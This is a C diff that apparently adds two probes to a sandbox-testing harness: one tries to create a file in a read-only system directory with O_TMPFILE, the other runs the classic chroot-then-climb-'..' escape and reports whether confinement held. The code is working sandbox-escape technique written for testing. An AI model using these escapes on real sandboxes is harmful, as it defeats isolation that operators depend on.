@@ -137,3 +137,49 @@ int atk_kallsyms(int argc, char **argv)
 		return atk_blocked_as("EMPTY", "/proc/kallsyms is empty");
 	return atk_blocked_as("ZEROADDR", "%d symbols, every address zero", lines);
 }
+
+/* Creates a file in a system directory that a sandbox binds read-only.
+ * O_TMPFILE makes an unnamed file: nothing can be left behind. */
+int atk_write_sysdir(int argc, char **argv)
+{
+	const char *dir = argc > 1 ? argv[1] : "/etc";
+	int fd = open(dir, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600);
+
+	if (fd < 0 && errno == EOPNOTSUPP)
+		return atk_unavailable(errno, "%s: its filesystem has no O_TMPFILE", dir);
+	if (fd < 0)
+		return atk_failed(errno, dir);
+	ssize_t n = write(fd, "x", 1);
+	close(fd);
+	return atk_escaped("created a file in %s%s", dir, n == 1 ? " and wrote to it" : "");
+}
+
+/* The classic chroot escape: chroot into a subdirectory while the working
+ * directory stays outside, climb with "..", chroot(".") again. */
+int atk_chroot(int argc, char **argv)
+{
+	char dir[] = "/tmp/airlock-attack-XXXXXX";
+	const char *target = mkdtemp(dir);
+	struct stat before, after;
+
+	if (stat("/", &before) < 0)
+		return atk_unexpected(errno, "stat /: %s", strerror(errno));
+	if (chroot(target ? target : ".") < 0) {
+		int e = errno;
+		if (target)
+			rmdir(dir);
+		return atk_failed(e, "chroot");
+	}
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			break;
+	int r = chroot(".");
+	int e = errno;
+	if (target)
+		rmdir(dir); /* absolute: resolved from whatever root we now have */
+	if (r < 0)
+		return atk_failed(e, "chroot(\".\") after climbing");
+	if (stat("/", &after) == 0 && after.st_dev == before.st_dev && after.st_ino == before.st_ino)
+		return atk_escaped("chroot, climb \"..\", chroot(\".\"): back at the original root");
+	return atk_blocked_as("CONFINED", "chroot worked but the climb stayed inside");
+}
